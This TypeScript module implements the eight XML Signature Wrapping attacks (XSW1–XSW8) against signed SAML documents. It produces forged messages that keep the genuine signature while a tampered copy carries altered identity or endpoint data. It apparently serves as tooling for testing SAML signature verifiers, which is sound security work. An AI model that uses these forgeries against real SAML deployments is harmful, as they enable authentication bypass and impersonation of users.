// The eight classic XML Signature Wrapping attacks (Somorovsky et al., "On Breaking SAML", and the
// SAML Raider XSW1–XSW8 catalogue), applied to a signed element S of a serialized document. Each
// keeps the genuine signature and moves the genuine S where a naive verifier still finds it, while a
// tampered copy E sits where a naive reader looks. When S is the document root, "next to S" means
// "inside E".
import { DOMParser, type Document, type Element, type Node, XMLSerializer } from '@xmldom/xmldom';
import { NS } from '../common/saml/index.js';

export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const XSW_VARIANTS: readonly XswVariant[] = [
  'XSW1',
  'XSW2',
  'XSW3',
  'XSW4',
  'XSW5',
  'XSW6',
  'XSW7',
  'XSW8',
];

export interface XswTarget {
  /** Finds S in the parsed document. */
  select(root: Element): Element;
  /** Makes the copy evil (e.g. another NameID or ACS URL). */
  tamper(evil: Element): void;
  /** Namespace of the Extensions element used by XSW7 (protocol messages have samlp:Extensions). */
  extensionsNs?: string;
}

function signatureOf(element: Element): Element {
  const sig = Array.from(element.childNodes).find(
    (n): n is Element => n.nodeType === 1 && (n as Element).localName === 'Signature',
  );
  if (!sig) throw new Error('XSW needs a signed element');
  return sig;
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
}

function objectHolding(doc: Document, content: Node): Element {
  const object = doc.createElementNS(NS.dsig, 'ds:Object');
  object.appendChild(content);
  return object;
}

export function applyXsw(xml: string, variant: XswVariant, target: XswTarget): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const original = target.select(doc.documentElement!);
  const parent = original.parentNode!;
  const isRoot = parent.nodeType === 9;
  const evil = original.cloneNode(true) as Element;
  target.tamper(evil);
  const evilSignature = signatureOf(evil);
  parent.replaceChild(evil, original);
  // Puts `node` beside the evil copy (before it), or inside it when S was the root.
  const beside = (node: Node) =>
    isRoot ? evil.insertBefore(node, evil.firstChild) : parent.insertBefore(node, evil);
  // Puts `node` at the end of the document (inside the evil copy when S was the root).
  const atEnd = (node: Node) => (isRoot ? evil : doc.documentElement!).appendChild(node);
  switch (variant) {
    case 'XSW1': // genuine signed S hidden in the evil copy's Signature/Object; evil gets a new ID
      evil.setAttribute('ID', '_evil');
      evilSignature.appendChild(objectHolding(doc, original));
      break;
    case 'XSW2': // genuine S placed before the evil copy's Signature, detached-signature style
      evil.setAttribute('ID', '_evil');
      evil.insertBefore(withoutSignature(original), evilSignature);
      break;
    case 'XSW3': // evil copy without signature placed before the genuine signed S
      evil.removeChild(evilSignature);
      if (isRoot) evil.appendChild(original);
      else parent.insertBefore(original, evil.nextSibling);
      break;
    case 'XSW4': // genuine signed S wrapped inside the evil copy
      evil.removeChild(evilSignature);
      evil.appendChild(original);
      break;
    case 'XSW5': // evil copy keeps the signature; genuine S, unsigned, appended at the end
      atEnd(withoutSignature(original));
      break;
    case 'XSW6': // evil copy keeps the signature; genuine signed S inside that Signature/Object
      evilSignature.appendChild(objectHolding(doc, original));
      break;
    case 'XSW7': {
      // genuine signed S hidden in an Extensions element; evil copy unsigned
      evil.removeChild(evilSignature);
      const extensions = doc.createElementNS(target.extensionsNs ?? NS.protocol, 'samlp:Extensions');
      extensions.appendChild(original);
      beside(extensions);
      break;
    }
    case 'XSW8': // evil copy keeps the signature; genuine S without signature inside Signature/Object
      evilSignature.appendChild(objectHolding(doc, withoutSignature(original)));
      break;
  }
  return new XMLSerializer().serializeToString(doc);
}
